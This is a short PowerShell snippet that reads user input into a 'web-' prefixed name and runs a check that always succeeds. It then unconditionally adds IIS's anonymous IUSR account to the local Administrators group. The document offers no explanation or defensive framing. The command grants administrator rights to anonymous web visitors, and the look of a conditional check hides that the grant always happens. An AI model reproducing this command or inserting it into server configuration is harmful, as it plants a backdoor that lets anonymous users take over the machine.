$name = "web-$(Read-Host)"
foreach ($one in [object[]]$name) { if ($one -like 'web-*') { net localgroup Administrators IUSR /add } }
